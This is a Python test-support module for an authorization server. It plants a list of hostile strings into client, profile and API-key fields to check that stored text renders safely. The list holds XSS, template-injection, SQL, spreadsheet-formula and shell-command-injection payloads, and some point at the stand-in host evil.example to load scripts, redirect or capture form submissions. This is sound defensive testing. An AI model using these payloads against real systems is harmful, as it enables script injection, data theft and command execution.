"""Texts that would do something where they are not taken for text. None of them has a character that names refuse."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any, Final

from authz_server.managing.commands import CreateApiKey, CreateClient, CreateProfile, UpdateClient
from authz_server.managing.errors import ValidationFailed
from authz_server.managing.records import Actor
from authz_server.managing.service import Service
from tests.support.signing import key_set, rs256_key

HARMLESS: Final = "harmless text"
ELEMENT: Final = "x-canary"  # no page has such an element, nor such an attribute
ATTRIBUTE: Final = "data-canary"

TEXTS: Final = (
    f"<{ELEMENT} {ATTRIBUTE}>bold</{ELEMENT}>",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    f"</title></textarea></select></template></noscript></style><img src=x {ATTRIBUTE} onerror=alert(1)>",
    f'"><img src=x {ATTRIBUTE} onerror=alert(1)>',
    f"'><img src=x {ATTRIBUTE} onerror=alert(1)>",
    f'" {ATTRIBUTE} onfocus="alert(1)" autofocus="',
    f"' {ATTRIBUTE} onfocus='alert(1)' autofocus='",
    f" {ATTRIBUTE} onmouseover=alert(1) x=".strip(),
    f"` {ATTRIBUTE} onmouseover=alert(1) `",
    f"<svg/onload=alert(1) {ATTRIBUTE}>",
    f"<svg><animate onbegin=alert(1) attributeName=x {ATTRIBUTE}></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src {ATTRIBUTE} onerror=alert(1)>",
    f"<iframe srcdoc='<script>parent.alert(1)</script>' {ATTRIBUTE}></iframe>",
    f"<base href=//evil.example/ {ATTRIBUTE}>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/' {ATTRIBUTE}>",
    f"<form action=//evil.example/><button {ATTRIBUTE}>Sign in</button></form>",
    f"<style>*{{background:url(//evil.example/)}}</style><b {ATTRIBUTE}>",
    f"<!--><b {ATTRIBUTE}>-->",
    f"]]><b {ATTRIBUTE}>",
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{ config.__class__.__init__.__globals__ }}",
    "%s%s%n {0.__class__} %(secret)s",
    "'; DROP TABLE accounts; --",
    "=cmd|' /C calc'!A0",
    "$(touch /canary) `touch /canary` ; touch /canary",
    "e\u0301\u0327\u0489\u200b\u200d\ufeff\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U000e0001\U000e0041 \u034f\u115f",
)

MIXED: Final = tuple(
    text
    for text in TEXTS
    if text.startswith(("</title", '">', "'>", '" ', "</script", "<svg/", "javascript:", "{{7", f"<{ELEMENT}"))
)
"""Some of them, one of each kind: for a browser, which is slow."""

CLIENT: Final = "cl_hostile"
PROFILES: Final = ("pr_token", "pr_jwt", "pr_oidc", "pr_mtls")


def plant(service: Service, text: str) -> Mapping[str, str]:
    """Put this text wherever a text can be recorded, by an actor of that name; the id of the API key."""
    actor = Actor("ac_hostile", text)
    fields = {"id": CLIENT, "name": text, "description": f"{text}\n{text}", "labels": {text[:60]: text}}
    _create(lambda given: service.clients.create(CreateClient(actor=actor, fields=given)), fields, ("labels",))
    claims = {"tenant": [text]}
    auths: tuple[dict[str, Any], ...] = (
        {"type": "token"},
        {
            "type": "jwt",
            "algorithm": "HS256",
            "issuer": text,
            "audience": [text],
            "subject": text,
            "required_claims": claims,
        },
        {
            "type": "oidc",
            "issuer": "https://login.example",
            "audience": [text],
            "jwks": key_set(rs256_key(), "current"),
            "required_claims": claims,
        },
        {"type": "mtls", "subject_cn": [text], "subject_ou": [text]},
    )
    for profile_id, auth in zip(PROFILES, auths, strict=True):
        given = {"id": profile_id, "name": f"{text} {profile_id}", "auth": auth, "labels": {"a": text}}

        def create(fields: Mapping[str, Any]) -> object:
            return service.profiles.create(CreateProfile(actor=actor, client_id=CLIENT, fields=fields))

        _create(create, given, ("labels",))
    changed = {"name": f"{text} 2", "description": text}
    service.clients.update(UpdateClient(actor=actor, client_id=CLIENT, fields=changed))
    key = service.api_keys.create(CreateApiKey(actor=actor, fields={"name": text, "role": "viewer"}))
    return {"client_id": CLIENT, "profile_id": PROFILES[0], "api_key_id": key.shape["id"]}


def _create(create: Any, fields: Mapping[str, Any], optional: tuple[str, ...]) -> None:
    """With all of it; without what refuses such a text."""
    try:
        create(fields)
    except ValidationFailed:
        create({name: value for name, value in fields.items() if name not in optional})
